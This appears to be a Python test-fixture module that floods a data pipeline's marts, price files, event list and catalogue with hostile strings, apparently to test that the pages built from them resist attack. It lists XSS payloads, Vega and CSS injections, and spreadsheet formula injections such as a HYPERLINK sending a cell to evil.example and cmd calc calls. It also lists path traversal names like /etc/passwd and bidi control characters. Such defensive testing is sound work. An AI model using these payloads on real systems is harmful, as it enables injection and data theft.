"""Text that attacks the page that shows it, in marts where validators refuse it and in files that a run reads."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import date
from itertools import cycle, islice
from pathlib import Path
from typing import Final

import duckdb
import polars as pl

from pipelines.contracts.vocabulary import EVENT_THEMES
from tests.generated_prices import market, new_york_sessions, write
from tests.generated_report import STUDY, publish_made_up
from tests.running import reaction_here

RUN: Final = "window.pwned=1"
"""What every attack tries to run; a page in which it ran says so by itself."""

MARKUP: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script><!--<script>",
    f"</title></textarea></style></pre></option></select><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"<svg onload={RUN}><a href='javascript:{RUN}'>x</a></svg>",
    f"&lt;img src=x onerror={RUN}&gt; &#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><base href=//evil.example/><meta http-equiv=refresh>",
    f"{{{{ ''.__class__.__mro__ }}}} {{% raw %}} ${{{RUN}}} <%= 1 %>",
    f"[x](javascript:{RUN}) ![x](https://evil.example/x.png)",
)
VEGA: Final = (
    f"datum['constructor']['constructor']('{RUN}')()",
    f"');({RUN});('",
    f"datum.symbol]; {RUN}; datum[x",
    "__proto__",
    "constructor",
    "\\u003cscript\\u003e${datum}",
)
CSS: Final = (
    "</style><style>*{background:url(https://evil.example/x)}</style>",
    "red;background:url(//evil.example/x);}:root{--ground:url(https://evil.example/y)",
    'dark"]{}*{display:none}@import "https://evil.example/z";',
)
FORMULAS: Final = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    'x",=1+1',
)
HIDDEN: Final = (
    "\u202egnp.exe\u2066",
    "\x00\x1b[31m\x07 red",
    "a\u2028b\u2029c",
    "\u200f\u200e\ufeff",
    "e\u0301" * 400,
)
LONG: Final = "A title that never ends " * 420
"""More than ten thousand characters."""

TITLES: Final = (*MARKUP, *VEGA, *CSS, *FORMULAS, *HIDDEN, LONG)
SYMBOLS: Final = (
    "../x", "..\\x", "/etc/passwd", "C:\\x", "CON", "con", "NUL.txt", "a/b?c#d", "%2e%2e%2fx", "x:stream", "...", " ",
    "__proto__", "constructor", "=1+1", "\u202eABC", "\x00X", "A" * 400, f"<img src=x onerror={RUN}>",
    f'"onerror="{RUN}',
)  # fmt: skip
THEMES: Final = (*CSS, "../../theme", "CON", "__proto__", "toString", f"x onload={RUN}")
URLS: Final = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "vbscript:x", "file:///etc/passwd", "//evil.example/x", "blob:https://x/y",
    f"https://example.org/' onclick='{RUN}", f'https://example.org/"onclick="{RUN}', "https://example.org/\u202egnp",
    "https://example.org/?a=1&b=<x>#c", "http://[::1", f"https:javascript:{RUN}", "https://example.org/x y",
)  # fmt: skip
KEPT: Final = frozenset({"status", "group_by", "test", "expected_sign", "precision", "coefficients", "table_hashes"})
"""Columns whose words the code asks for; every other text of the marts is replaced."""


KEYS: Final = frozenset({
    "symbol", "event_id", "study_id", "benchmark_symbol", "theme", "group_value", "exchange_mic",
})  # fmt: skip
"""Columns that tables are joined by: a name is replaced by the same attack wherever it stands."""


def poison(folder: Path) -> Path:
    """Write marts that are published in form, and in which every text is an attack."""
    n_events, n_securities = len(TITLES), len(SYMBOLS)
    file = publish_made_up(folder, n_events=n_events, n_securities=n_securities, n_sessions=340)
    names = {f"S{number:03d}": symbol for number, symbol in enumerate(SYMBOLS)}
    names |= {f"event-{number:04d}": f"{title[:300]}{number}" for number, title in enumerate(TITLES)}
    names |= dict(zip(EVENT_THEMES, THEMES, strict=False))
    names |= {STUDY: f'</script>"><img src=x onerror={RUN}>|0,0', "XNYS": f"<b onmouseover={RUN}>x"}
    with duckdb.connect(str(file)) as connection:
        connection.execute("set timezone = 'UTC'")
        for (table,) in connection.execute("select table_name from duckdb_tables()").fetchall():
            frame = _poisoned(connection.sql(f"from {table}").pl(), table, names)
            connection.register("frame", frame.to_arrow())
            connection.execute(f"create or replace table {table} as select * from frame")
            connection.unregister("frame")
    return file


def _poisoned(frame: pl.DataFrame, table: str, names: dict[str, str]) -> pl.DataFrame:
    texts = [name for name, kind in frame.schema.items() if kind == pl.String and name not in KEPT]
    spec = json.dumps({text: text for text in (*MARKUP, *HIDDEN)})
    return frame.with_columns(
        pl.col(name).replace(names) if name in KEYS
        else pl.lit(spec).alias(name) if name == "spec"
        else _series(name, TITLES if (table, name) == ("dim_events", "title") else _texts(name), frame.height)
        for name in texts
    )  # fmt: skip


def _texts(name: str) -> Sequence[str]:
    return URLS if name == "url" else (*MARKUP, *VEGA, *FORMULAS, *HIDDEN, *CSS)


def _series(name: str, texts: Sequence[str], n: int) -> pl.Series:
    return pl.Series(name, [*islice(cycle(texts), n)], dtype=pl.String)


def run_hostile(home: Path) -> Path:
    """Publish what a run makes of hostile prices, event list and catalogue, and return the marts."""
    folder = home.parent / "incoming"
    days = new_york_sessions(date(2023, 1, 3), date(2024, 12, 31))
    prices = write(market([*SYMBOLS, "^GSPC"], days, index="^GSPC"), folder / "prices.parquet")
    events = pl.DataFrame(
        {
            "event_id": [f"{title[:300]}{number}" for number, title in enumerate(TITLES)],
            "symbol": [*islice(cycle(SYMBOLS), len(TITLES))],
            "event_date": [days[300 + 3 * number].isoformat() for number in range(len(TITLES))],
            "title": TITLES,
            "theme": [*islice(cycle(THEMES), len(TITLES))],
            "expected_sign": ["+"] * len(TITLES),
        }
    )
    listed = write(events, folder / f"'><img src=x onerror={RUN}>.csv")
    curated = folder / "curated.yaml"
    curated.write_text(json.dumps([_curated(number, title) for number, title in enumerate(MARKUP)]), encoding="utf-8")
    files = ("--prices", prices, "--events", listed, "--events", curated)
    finished = reaction_here("run", "--no-prefect", "--source", "files", *files, home=home)
    assert finished.code == 0, finished.err
    return home / "published" / "marts.duckdb"


def _curated(number: int, text: str) -> dict[str, object]:
    """Return an event that has the form of the catalogue, with an attack wherever its form allows one."""
    return {
        "id": f"hostile-{number}",
        "title": text,
        "occurred_at": "2024-06-03T15:00:00Z",
        "precision": "minute",
        "kind": "news",
        "tickers": [{"ticker": "CON", "sign": "+"}, {"ticker": "NUL.txt", "sign": "-"}],
        "urls": [f"https://example.org/'onclick='{RUN}"],
        "note": text,
    }
